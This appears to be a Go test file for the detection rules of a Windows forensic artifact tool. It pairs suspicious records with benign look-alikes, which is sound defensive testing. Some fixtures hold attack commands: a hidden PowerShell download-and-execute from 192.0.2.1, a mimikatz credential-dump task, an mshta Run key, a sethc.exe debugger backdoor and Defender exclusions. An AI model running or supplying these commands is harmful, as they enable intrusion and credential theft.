package findings_test

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/activity"
	"github.com/artifactdump/artifactdump/artifacts/catalogue"
	"github.com/artifactdump/artifactdump/artifacts/communication"
	"github.com/artifactdump/artifactdump/artifacts/events"
	"github.com/artifactdump/artifactdump/artifacts/evidence"
	"github.com/artifactdump/artifactdump/artifacts/execution"
	"github.com/artifactdump/artifactdump/artifacts/findings"
	"github.com/artifactdump/artifactdump/artifacts/internal/databases"
	"github.com/artifactdump/artifactdump/artifacts/persistence"
	"github.com/artifactdump/artifactdump/artifacts/system"
)

// rec wraps data as a run would.
func rec(name string, d artifacts.Decoded) artifacts.Record {
	for _, a := range catalogue.All() {
		if a.Name == name {
			return artifacts.Record{ID: name, Artifact: a, Data: d, From: artifacts.Locator{Path: `C:\x`, State: artifacts.Live}}
		}
	}
	panic("no artifact is called " + name)
}

func of(user string, r artifacts.Record) artifacts.Record {
	r.User = evidence.User{Name: user, Profile: `C:\Users\` + user}
	return r
}

var day = time.Date(2026, 3, 6, 18, 0, 0, 0, time.UTC)

func at(minutes ...int) []time.Time {
	var out []time.Time
	for _, m := range minutes {
		out = append(out, day.Add(time.Duration(m)*time.Minute))
	}
	return out
}

// pf is a Prefetch record of a program on the volume of Windows.
func pf(path string, runs []time.Time, files ...string) artifacts.Record {
	files = append([]string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}, files...)
	name := strings.ToUpper(path[strings.LastIndexByte(path, '\\')+1:])
	return rec("prefetch", execution.Prefetch{
		Executable: name, ImagePath: `\VOLUME{1}` + strings.ToUpper(path), HashStatus: "verified", RunCount: uint32(len(runs)), LastRuns: runs, Files: files,
	})
}

func auto(mechanism, image, args string) persistence.Entry {
	return persistence.Entry{Mechanism: mechanism, Scope: "machine", Image: image, Arguments: args, Command: strings.TrimSpace(image + " " + args), Written: day}
}

// fill sets what a record says of a program that starts by itself. The
// embedded struct has no exported name; its fields do.
func fill[T any](r T, a persistence.Entry) T {
	dst, src := reflect.ValueOf(&r).Elem(), reflect.ValueOf(a)
	for i := range src.NumField() {
		dst.FieldByName(src.Type().Field(i).Name).Set(src.Field(i))
	}
	return r
}

func runKey(image, args string) artifacts.Record {
	return rec("runkeys", fill(persistence.RunKey{Name: "Value", List: "Run"}, auto("Run", image, args)))
}

func service(name, image string, more func(*persistence.Service)) artifacts.Record {
	s := fill(persistence.Service{Name: name, ImagePath: image, ServiceType: 0x10, StartType: 2}, auto("Service", image, ""))
	if more != nil {
		more(&s)
	}
	return rec("services", s)
}

func task(path, image, args string, more func(*persistence.Task)) artifacts.Record {
	t := fill(persistence.Task{TaskPath: path}, auto("Scheduled task", image, args))
	if more != nil {
		more(&t)
	}
	return rec("tasks", t)
}

// byUser makes a task one that a person made.
func byUser(runAs, level string) func(*persistence.Task) {
	return func(t *persistence.Task) {
		t.Author, t.Principals = `TEST\daniel`, []persistence.TaskPrincipal{{User: runAs, RunLevel: level}}
	}
}

func com(class string) func(*persistence.Task) {
	return func(t *persistence.Task) {
		t.Kind, t.Class, t.Command = "com", class, "{01234567-89ab-cdef-0123-456789abcdef} data"
	}
}

func dated(s string) func(*persistence.Task) { return func(t *persistence.Task) { t.Date = s } }

func hook(mechanism, name, value, image string) persistence.Hook {
	return fill(persistence.Hook{Name: name, Value: value}, auto(mechanism, image, ""))
}

func setting(artifact, name, value string, weak bool) artifacts.Record {
	return rec(artifact, system.Setting{Setting: name, Value: value, Weak: weak, Meaning: "meaning"})
}

func amcache(path, original string) artifacts.Record {
	return rec("amcachefiles", execution.AmcacheFile{Path: path, OriginalName: original})
}

func shim(path, executed string) artifacts.Record {
	return rec("shimcache", execution.Shimcache{Path: path, Executed: executed, Modified: day})
}

func user(rid uint32, name string, more func(*system.Account)) artifacts.Record {
	a := system.Account{RID: rid, Name: name, SID: fmt.Sprintf("S-1-5-21-1-2-3-%d", rid)}
	if more != nil {
		more(&a)
	}
	return rec("users", a)
}

// rights are the privileges of an account, as the artifact marks them.
func rights(sid string, privileges ...string) system.UserRights {
	u := system.UserRights{SID: sid, Privileges: privileges}
	if strings.HasPrefix(sid, "S-1-5-21-") {
		u.Powerful = privileges
	}
	return u
}

func group(rid uint32, members ...string) artifacts.Record {
	return rec("groups", system.Group{RID: rid, Name: "Administrators", Members: members})
}

func deleted(r artifacts.Record) artifacts.Record {
	r.From.State = artifacts.Deleted
	return r
}

// log is an event log that begins with a record at a time; one of 320 chunks
// is full.
func log(name string, first uint64, oldest time.Time, chunks int) artifacts.Record {
	e := events.EvtxFile{Log: name, First: first, Last: first + 999, Next: first + 1000, Records: 1000, Oldest: oldest, Newest: day.AddDate(0, 0, 2), Chunks: chunks, Unused: 2, Size: int64(4096 + (chunks+2)*65536)}
	if chunks == 320 {
		e.Unused, e.OldestChunk = 0, 7
	}
	return rec("evtxfiles", e)
}

func with(r artifacts.Record, f func(*events.EvtxFile)) artifacts.Record {
	e := r.Data.(events.EvtxFile)
	f(&e)
	r.Data = e
	return r
}

// logs are two ordinary ones of a machine that is a year old.
func logs() records {
	return records{log("System", 1, day.AddDate(-1, 0, 0), 40), log("Application", 1, day.AddDate(-1, 0, 0), 40)}
}

// inventoried is winlogon.exe in the inventory, periodOf a period of the monitor in which a program of that name
// ran that was linked in another year.
func inventoried(linked string, at time.Time) artifacts.Record {
	return rec("amcachefiles", execution.AmcacheFile{Path: `C:\Windows\System32\winlogon.exe`, Linked: linked, Written: at})
}

func periodOf(year int, at time.Time) artifacts.Record {
	return rec("srumother", execution.SRUMOther{SRUMRow: databases.SRUMRow{Time: at, Kind: "program", Path: "winlogon.exe",
		Linked: time.Date(year, 6, 21, 13, 51, 42, 0, time.UTC)}})
}

type records []artifacts.Record

// many adds ordinary Prefetch files.
func many(n int, more ...artifacts.Record) records {
	for i := range n {
		more = append(more, pf(fmt.Sprintf(`\Program Files\P\p%d.exe`, i), at(i)))
	}
	return more
}

// cases are, for every rule, records that fire it and a twin that looks alike
// and does not. A level of 0 means any.
var cases = []struct {
	rule   string
	level  findings.Level
	fires  records
	benign records
}{
	{"M-01", findings.Critical, records{pf(`\Users\Public\svchost.exe`, at(0))}, records{pf(`\Windows\System32\svchost.exe`, at(0)), shim(`C:\Windows\SysWOW64\svchost.exe`, "yes"), pf(`\Windows\WinSxS\amd64_x\svchost.exe`, at(0))}},
	{"M-01", findings.High, records{shim(`C:\dllhost.exe`, "no")}, records{shim(`C:\Program Files\Vendor\svchost2.exe`, "no")}},
	{"M-02", findings.High, records{pf(`\PerfLogs\tool.exe`, at(0)), pf(`\Program Files\Tool\tool.exe`, at(1))}, records{pf(`\Program Files\Tool\1.0\tool.exe`, at(0)), pf(`\Program Files\Tool\2.0\tool.exe`, at(1))}},
	{"M-03", findings.High, records{pf(`\Windows\System32\scvhost.exe`, at(0))}, records{pf(`\Windows\System32\taskhostw.exe`, at(0)), pf(`\Program Files\Notepad++\notepad++.exe`, at(0))}},
	{"M-03", findings.High, records{shim(`C:\Windows\System32\svсhost.exe`, "yes")}, records{shim(`C:\Windows\System32\cscript.exe`, "yes")}},
	{"M-04", findings.High, records{pf(`\Users\u\Desktop\report.pdf.exe`, at(0))}, records{pf(`\Users\u\Desktop\setup.1.2.exe`, at(0))}},
	{"M-05", findings.High, records{amcache(`C:\Program Files\x\notes.exe`, "mimikatz.exe")}, records{amcache(`C:\Program Files\x\setup.exe`, "Product.exe")}},
	{"M-06", findings.High, records{task(`\Adobe Flash Updater`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-f x.ps1`, nil)}, records{task(`\GoogleUpdateTaskMachine`, `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, `/c`, nil)}},
	{"M-07", 0, records{pf(`\Users\Public\app\signed.exe`, at(0), `\VOLUME{1}\USERS\PUBLIC\APP\VERSION.DLL`)}, records{pf(`\Program Files\app\signed.exe`, at(0), `\VOLUME{1}\PROGRAM FILES\APP\VERSION.DLL`)}},
	{"M-08", 0, records{pf(`\Program Files\app\a.exe`, at(0), `\VOLUME{1}\PERFLOGS\DBGHELP.DLL`)}, records{pf(`\Program Files\app\a.exe`, at(0), `\VOLUME{1}\WINDOWS\SYSTEM32\DBGHELP.DLL`)}},
	{"M-09", findings.Low, records{inventoried("06/21/2065 13:51:42", day), periodOf(2067, day.Add(time.Hour))},
		records{inventoried("06/21/2065 13:51:42", day), periodOf(2067, day.Add(-time.Hour)), periodOf(2065, day.Add(time.Hour))}},
	{"M-09", findings.Medium, records{inventoried("06/21/2065 13:51:42", day), periodOf(2067, day.Add(time.Hour)), periodOf(2065, day.Add(2*time.Hour))},
		records{inventoried("06/21/2065 13:51:42", day), inventoried("06/21/2067 13:51:42", day.AddDate(0, 0, -1)), periodOf(2067, day.Add(time.Hour))}},
	{"P-01", findings.High, records{runKey(`C:\Users\Public\a.exe`, "")}, records{runKey(`C:\Program Files\A\a.exe`, ""), runKey(`C:\Users\u\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "/background")}},
	{"P-02", findings.Critical, records{runKey(`C:\Windows\System32\mshta.exe`, `javascript:close()`)}, records{runKey(`C:\Windows\System32\rundll32.exe`, `"C:\Program Files\Driver\d.dll",Startup`)}},
	{"P-03", findings.Critical, records{rec("winlogon", fill(persistence.Winlogon{Name: "Userinit", Item: 2, Value: "a,b"}, auto("Winlogon Userinit", `C:\ProgramData\b.exe`, "")))}, records{rec("winlogon", fill(persistence.Winlogon{Name: "Userinit", Item: 1, Value: `C:\Windows\system32\userinit.exe,`}, auto("Winlogon Userinit", `C:\Windows\system32\userinit.exe`, "")))}},
	{"P-04", findings.Critical, records{rec("ifeo", persistence.IFEO{Hook: hook("IFEO Debugger", "Debugger", "cmd.exe", `C:\Windows\System32\cmd.exe`), Target: "sethc.exe", Accessibility: true})}, records{rec("ifeo", persistence.IFEO{Hook: hook("IFEO Debugger", "Debugger", "", `C:\Tools\PROCEXP.EXE`), Target: "taskmgr.exe"})}},
	{"P-05", findings.High, records{of("u", rec("shellfolders", persistence.ShellFolder{Name: "Startup", Resolved: `C:\Users\Public\s`, Redirected: true}))}, records{of("u", rec("shellfolders", persistence.ShellFolder{Name: "Startup", Resolved: `C:\Users\v\Startup`, Redirected: true, Foreign: true}))}},
	{"P-06", findings.High, records{of("u", rec("startupfolder", fill(persistence.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs`, Kind: "file"}, auto("Startup folder", `C:\x.vbs`, ""))))},
		records{of("u", rec("startupfolder", fill(persistence.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`, Kind: "shortcut"}, auto("Startup folder", `C:\Program Files\A\a.exe`, "")))),
			rec("startupfolder", persistence.StartupFile{Path: `\a.vbs`, Kind: "file", PlaceUnknown: true})}},
	{"P-07", findings.High, records{rec("windowsload", fill(persistence.WindowsLoad{Name: "Load"}, auto("Windows Load", `C:\Program Files\a.exe`, "")))}, records{rec("windowsload", persistence.WindowsLoad{Name: "Load"})}},
	{"P-08", findings.Medium, records{rec("runkeys", fill(persistence.RunKey{Name: "V"}, persistence.Entry{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "no"}))}, records{rec("runkeys", fill(persistence.RunKey{Name: "V"}, persistence.Entry{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "yes"}))}},
	{"P-09", 0, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(5))}, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(500))}},
	{"P-10", 0, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Windows\System32\cmd.exe`, at(5))}, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(5))}},
	{"P-11", findings.Critical, records{service("evil", `C:\Windows\System32\cmd.exe`, func(s *persistence.Service) { s.ImagePath = `%COMSPEC% /c start x` })}, records{service("Spooler", `C:\Windows\System32\spoolsv.exe`, nil)}},
	{"P-11", findings.Critical, records{service("evil", `C:\Users\Public\a.exe`, nil)}, records{service("WinDefend", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe`, nil)}},
	{"P-12", findings.Critical, records{task(`\x`, `C:\TMP\mim.exe`, `sekurlsa::logonpasswords`, nil)}, records{task(`\Microsoft\Windows\Defrag\ScheduledDefrag`, `C:\Windows\System32\defrag.exe`, `-c -h`, nil)}},
	{"P-12", findings.Medium, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.Triggers = []persistence.TaskTrigger{{Interval: "PT1M"}} })}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.Triggers = []persistence.TaskTrigger{{Interval: "PT1H"}} })}},
	{"P-11", findings.High, records{pf(`\Users\Public\a.exe`, at(0)), service("QwRtZpLk", `C:\ProgramData\Vendor\a.exe`, nil)}, records{pf(`\Users\Public\a.exe`, at(3000)), service("QwRtZpLk", `C:\Program Files\A\a.exe`, nil)}},
	{"P-11", findings.Medium, records{pf(`\Users\Public\a.exe`, at(0)), service("xkqzwvtr", `C:\Program Files\A\a.exe`, nil)}, records{pf(`\Users\Public\a.exe`, at(0)), service("PlugPlay", `C:\Program Files\A\a.exe`, nil)}},
	{"P-12", findings.Medium, records{task(`\sync`, `C:\ProgramData\Vendor\a.exe`, "", byUser("S-1-5-18", ""))}, records{task(`\sync`, `C:\ProgramData\Vendor\a.exe`, "", byUser(`TEST\daniel`, "LeastPrivilege")), task(`\Vendor\sync`, `C:\ProgramData\Vendor\a.exe`, "", byUser("S-1-5-18", ""))}},
	{"P-12", findings.Low, records{task(`\tuner`, `C:\Program Files\T\t.exe`, "", byUser(`TEST\daniel`, "HighestAvailable"))}, records{task(`\tuner`, `C:\Program Files\T\t.exe`, "", func(t *persistence.Task) { byUser("S-1-5-18", "")(t); t.Author = "Vendor Corporation" })}},
	{"P-12", findings.High, records{task(`\Microsoft\Windows\x`, "", "", com("yes")), of("u", rec("comhijack", persistence.COMHijack{Hook: fill(persistence.Hook{}, persistence.Entry{Scope: "user", Command: `C:\a.dll`, Image: `C:\a.dll`}), CLSID: "{01234567-89AB-CDEF-0123-456789ABCDEF}"}))},
		records{task(`\Microsoft\Windows\x`, "", "", com("yes")), of("u", rec("comhijack", persistence.COMHijack{Hook: fill(persistence.Hook{}, persistence.Entry{Scope: "user", Command: `C:\a.dll`, Image: `C:\a.dll`}), CLSID: "{11111111-89AB-CDEF-0123-456789ABCDEF}"}))}},
	{"P-12", findings.Medium, records{task(`\x`, "", "", com("no"))}, records{task(`\x`, "", "", com("unknown"))}},
	{"P-12", findings.Low, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2020-01-01T10:00:00")), rec("osinfo", system.OSInfo{Installed: day.AddDate(-1, 0, 0)})}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2026-03-07T02:00:00")), rec("osinfo", system.OSInfo{Installed: day.AddDate(-1, 0, 0)})}},
	{"P-12", findings.Low, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2026-02-27T10:00:00"))}, records{task(`\Microsoft\x`, `C:\Program Files\A\a.exe`, "", dated("2006-02-27T10:00:00"))}}, // another day than its file
	{"P-12b", findings.High, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.XMLSHA256, t.Actions = strings.Repeat("a", 64), []string{"a"} }), rec("taskcache", persistence.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("b", 64), Actions: []string{"b"}})},
		records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.XMLSHA256 = strings.Repeat("a", 64) }), rec("taskcache", persistence.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("a", 64)})}},
	{"P-13", findings.High, records{of("u", rec("comhijack", persistence.COMHijack{Hook: hook("COM server", "", "", `C:\Users\Public\a.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}, records{of("u", rec("comhijack", persistence.COMHijack{Hook: hook("COM server", "", "", `C:\Users\u\AppData\Local\Microsoft\OneDrive\x.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}},
	{"P-14", findings.High, records{of("u", rec("screensaver", fill(persistence.Screensaver{}, auto("Screen saver", `C:\Users\Public\a.scr`, ""))))}, records{of("u", rec("screensaver", fill(persistence.Screensaver{}, auto("Screen saver", `C:\Windows\System32\Mystify.scr`, ""))))}},
	{"P-15", findings.High, records{rec("shims", persistence.Shim{Database: "{1}", Target: "a.exe"})}, records{rec("appcompatflags", execution.AppCompatLayer{Path: `C:\Program Files\a.exe`})}},
	{"P-16", findings.High, records{rec("wmi", fill(persistence.WMI{Kind: "consumer", Class: "CommandLineEventConsumer", Name: "x", Bound: true}, auto("WMI consumer", `C:\a.exe`, "")))}, records{rec("wmi", persistence.WMI{Kind: "consumer", Class: "NTEventLogEventConsumer", Name: "SCM Event Log Consumer", Default: true})}},
	{"P-17", 0, records{rec("startupapproved", persistence.StartupApproved{Name: "x", List: "Run", Disabled: true})}, records{rec("startupapproved", persistence.StartupApproved{Name: "x", List: "Run"})}},
	{"P-18", findings.High, records{rec("runkeys", fill(persistence.RunKey{Name: "x", List: "Run"}, persistence.Entry{Mechanism: "Run", Scope: "new users", Command: "a", Image: `C:\Program Files\a.exe`}))}, records{rec("runkeys", fill(persistence.RunKey{Name: "x", List: "Run"}, persistence.Entry{Mechanism: "Run", Scope: "new users", Command: `C:\Windows\SysWOW64\OneDriveSetup.exe /thfirstsetup`, Image: `C:\Windows\SysWOW64\OneDriveSetup.exe`}))}},
	{"P-19", findings.High, records{rec("profiler", persistence.Profiler{Hook: hook(".NET profiler", "COR_PROFILER_PATH", `C:\a.dll`, `C:\a.dll`), Variable: "COR_PROFILER_PATH"})}, records{rec("environment", persistence.Environment{Hook: persistence.Hook{Name: "Path", Default: true}, Folder: `C:\Windows\System32`})}},
	{"X-01", findings.High, records{pf(`\Users\Public\gone.exe`, at(0))}, records{pf(`\Users\Public\here.exe`, at(0))}},
	{"X-02", findings.High, records{pf(`\PerfLogs\a.exe`, at(0))}, records{pf(`\Program Files\A\a.exe`, at(0)), pf(`\Windows\System32\a.exe`, at(0))}},
	{"X-03", findings.High, records{pf(`\Users\u\Downloads\mimikatz.exe`, at(0))}, records{pf(`\Program Files\7-Zip\7z.exe`, at(0))}},
	{"X-04", findings.High, records{pf(`\Windows\PSEXESVC.EXE`, at(0, 5))}, records{pf(`\Windows\explorer.exe`, at(0))}},
	{"X-05", findings.Medium, records{of("u", rec("sysinternals", execution.Sysinternals{Tool: "PsExec", Accepted: true, Written: day}))}, records{of("u", rec("muicache", execution.MuiCache{Path: `C:\Program Files\a.exe`}))}},
	{"X-06", findings.Medium, records{pf(`\Windows\System32\whoami.exe`, at(0)), pf(`\Windows\System32\ipconfig.exe`, at(3)), pf(`\Windows\System32\net.exe`, at(5)), pf(`\Windows\System32\nltest.exe`, at(20))},
		records{pf(`\Windows\System32\whoami.exe`, at(0)), pf(`\Windows\System32\net.exe`, at(3)), pf(`\Windows\System32\net1.exe`, at(3)), pf(`\Windows\System32\ipconfig.exe`, at(100)), pf(`\Windows\System32\nltest.exe`, at(200))}},
	{"X-07", 0, records{pf(`\Windows\System32\mshta.exe`, at(0))}, records{pf(`\Windows\System32\calc.exe`, at(0))}},
	{"X-08", findings.High, records{pf(`\Windows\System32\rundll32.exe`, at(0), `\VOLUME{1}\USERS\PUBLIC\A.DLL`)}, records{pf(`\Windows\System32\rundll32.exe`, at(0), `\VOLUME{1}\PROGRAM FILES\DRIVER\A.DLL`)}},
	{"X-09", findings.Critical, records{of("u", rec("runmru", activity.RunMRU{Command: `powershell -w hidden -c "iwr http://192.0.2.1/a|iex"`}))}, records{of("u", rec("runmru", activity.RunMRU{Command: "notepad"})), of("u", rec("runmru", activity.RunMRU{Command: `\\fileserver\public`}))}},
	{"X-10", findings.High, records{of("u", rec("trustrecords", activity.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Macros: true}))}, records{of("u", rec("trustrecords", activity.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Editing: true}))}},
	{"X-11", 0, records{pf(`\Users\Public\svchost.exe`, at(0)), pf(`\Program Files\A\a.exe`, at(5))}, records{pf(`\Users\Public\svchost.exe`, at(0)), pf(`\Program Files\A\a.exe`, at(50))}},
	{"X-12", 0, records{rec("consentstore", execution.Consent{Capability: "microphone", App: `C:\Users\Public\a.exe`, Start: day})}, records{rec("consentstore", execution.Consent{Capability: "microphone", App: `C:\Program Files\Zoom\zoom.exe`, Start: day})}},
	{"X-12", 0, records{rec("capabilityaccess", execution.CapabilityUse{Kind: "use", Capability: "webcam", App: `C:\Users\Public\a.exe`, Start: day})},
		records{rec("capabilityaccess", execution.CapabilityUse{Kind: "use", Capability: "webcam", App: `C:\Users\Public\a.exe`, Start: day, Blocked: true})}},
	{"X-13", 0, records{of("u", rec("userassist", execution.UserAssist{Name: "a", Path: `C:\Users\Public\a.exe`, Runs: 14, Seeded: true, Kind: "program"}))}, records{of("u", rec("userassist", execution.UserAssist{Name: "a", Path: `C:\Program Files\a.exe`, Runs: 14, Kind: "program"}))}},
	{"D-01", findings.Medium, records{pf(`\Users\Public\stomped.exe`, at(0))}, records{pf(`\Users\Public\extracted.exe`, at(0)), pf(`\Program Files\A\stomped.exe`, at(0))}},
	{"D-01", findings.Medium, records{pf(`\PerfLogs\collected.exe`, at(0)), pf(`\Windows\System32\cmd.exe`, at(0))}, records{pf(`\PerfLogs\collected.exe`, at(0))}}, // nothing shows that the source keeps parts of seconds
	{"D-01", findings.Low, records{shim(`C:\Users\Public\a.exe`, "yes")}, records{shim(`C:\Program Files\A\a.exe`, "yes")}},
	{"D-01", findings.Low, records{pf(`\Users\Public\a.exe`, at(0)), rec("osinfo", system.OSInfo{Installed: day.AddDate(0, 1, 0)})}, records{pf(`\Users\Public\a.exe`, at(0)), rec("osinfo", system.OSInfo{Installed: day.AddDate(-1, 0, 0)})}},
	{"D-02", findings.Medium, records{shim(`C:\Windows\System32\older.exe`, "no")}, records{shim(`C:\Windows\System32\newer.exe`, "no")}},
	{"D-03", 0, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "03/05/2026 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "01/05/2020 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}},
	{"D-04", 0, records{rec("prefetchlayout", execution.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "gone"})}, many(12, rec("prefetchlayout", execution.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "there"}))},
	{"D-05", 0, records{of("u", rec("runmru", activity.RunMRU{Empty: true, Written: day}))}, records{of("u", rec("runmru", activity.RunMRU{Command: "cmd"}))}},
	{"D-05", findings.Medium, records{of("u", rec("typedpaths", activity.TypedPath{Empty: true, Written: day})), of("u", deleted(rec("typedpaths", activity.TypedPath{Path: `C:\x`})))}, records{of("u", rec("typedpaths", activity.TypedPath{Path: `C:\x`})), of("u", deleted(rec("typedpaths", activity.TypedPath{Path: `C:\y`})))}},
	{"D-05", findings.Low, records{of("u", rec("typedurls", activity.TypedURL{Empty: true, Written: day}))}, records{of("u", rec("typedurls", activity.TypedURL{URL: "http://go.microsoft.com/fwlink/"}))}},
	{"D-05", findings.Low, records{of("u", rec("recentdocs", activity.RecentDoc{Empty: true, Written: day}))}, records{of("u", rec("recentdocs", activity.RecentDoc{Name: "a.txt"}))}},
	{"D-05", findings.Low, records{of("u", rec("userassist", execution.UserAssist{Kind: "none", KeyWritten: day}))}, records{of("u", rec("userassist", execution.UserAssist{Kind: "program", Path: `C:\Program Files\a.exe`}))}},
	{"D-06", findings.High, append(logs(), pf(`\Windows\System32\wevtutil.exe`, at(0)), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},                                      // cleared
	{"D-06", findings.High, append(logs(), log("Security", 9000, at(0)[0], 60), log("Setup", 12, at(1)[0], 60), log("Windows PowerShell", 200, at(1)[0], 60)), append(logs(), log("Security", 9000, day.AddDate(0, -1, 0), 320))}, // several together; one that was full
	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), pf(`\Windows\System32\wevtutil.exe`, at(0)))},
	{"D-06", findings.High, logs(), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))}, // Security is missing
	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *events.EvtxFile) { e.MissingCount, e.Missing = 3, []string{"7 to 9"} })), append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.MissingCount, e.Dirty = 3, true }))},
	{"D-06", findings.High, append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.HiddenCount = 1 })), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *events.EvtxFile) { e.Size = 69632 })), append(logs(), with(log("Setup", 1, day, 60), func(e *events.EvtxFile) { e.Size = 69632 }), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
	{"D-06", findings.Low, append(logs(), rec("eventlogging", system.Setting{Setting: "File", Subject: "Security", Value: `D:\Logs\Security.evtx`})), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
	{"D-06", findings.Low, append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), with(log("Setup", 1, day, 60), func(e *events.EvtxFile) { e.Unusual = []string{"chunk 0: the sum of its records does not fit"} })),
		append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.Unusual, e.Dirty = []string{"x"}, true }))},
	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 5000, at(0)[0], 60), rec("osinfo", system.OSInfo{Installed: day.Add(time.Hour)}))}, // an upgrade began it anew
	{"D-07", findings.Medium, records{rec("recyclebin", execution.Recycled{Path: `C:\Windows\System32\a.exe`, Deleted: day})}, records{rec("recyclebin", execution.Recycled{Path: `C:\Users\u\Documents\letter.docx`, Deleted: day})}},
	{"D-08", 0, records{rec("prefetch", execution.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{1}\WINDOWS\A.EXE`, ClockSetBack: true})}, records{pf(`\Windows\System32\a.exe`, at(0))}},
	{"F-01", findings.High, records{rec("defender", system.Defender{Kind: "setting", Name: "DisableRealtimeMonitoring", Value: "1", Weak: true})}, records{rec("defender", system.Defender{Kind: "setting", Name: "DisableAntiSpyware", Value: "0"})}},
	{"F-02", findings.High, records{rec("defender", system.Defender{Kind: "exclusion", List: "Extensions", Name: ".exe", Weak: true})}, records{rec("defender", system.Defender{Kind: "setting", Name: "x"})}},
	{"F-02", findings.Critical, records{rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\`, Weak: true})}, records{rec("hosts", communication.Host{Default: true})}},
	{"F-03", findings.High, records{rec("firewall", communication.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `C:\Users\Public\a.exe`})}, records{rec("firewall", communication.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `%SystemRoot%\System32\svchost.exe`})}},
	{"F-04", findings.High, records{rec("portproxy", communication.PortProxy{ListenAddress: "0.0.0.0", ListenPort: "80", Address: "192.0.2.9", Port: "3389"})}, records{rec("proxies", communication.Proxy{})}},
	{"F-05", findings.High, records{rec("hosts", communication.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"definitionupdates.microsoft.com"}})}, records{rec("hosts", communication.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"localhost"}, Default: true}), rec("hosts", communication.Host{Address: "0.0.0.0", Loopback: true, Names: []string{"ads.example"}})}},
	{"F-06", findings.High, records{setting("eventlogging", `EventLog\Start`, "4", true)}, records{setting("eventlogging", `EventLog\Start`, "2", false)}},
	{"F-07", findings.Low, records{setting("protection", `Microsoft.PowerShell\ExecutionPolicy`, "Bypass", true)}, records{setting("protection", `Microsoft.PowerShell\ExecutionPolicy`, "RemoteSigned", false)}},
	{"F-08", findings.High, records{setting("remoteaccess", `System\LocalAccountTokenFilterPolicy`, "1", true)}, records{setting("protection", `System\EnableLUA`, "1", false)}},
	{"F-09", findings.High, records{setting("remoteaccess", `RDP-Tcp\PortNumber`, "4444", true)}, records{setting("remoteaccess", `Terminal Server\fDenyTSConnections`, "1", false)}},
	{"F-10", findings.High, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080", Enabled: true}))}, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080"}))}},
	{"F-11", findings.High, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(2))}, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(200))}},
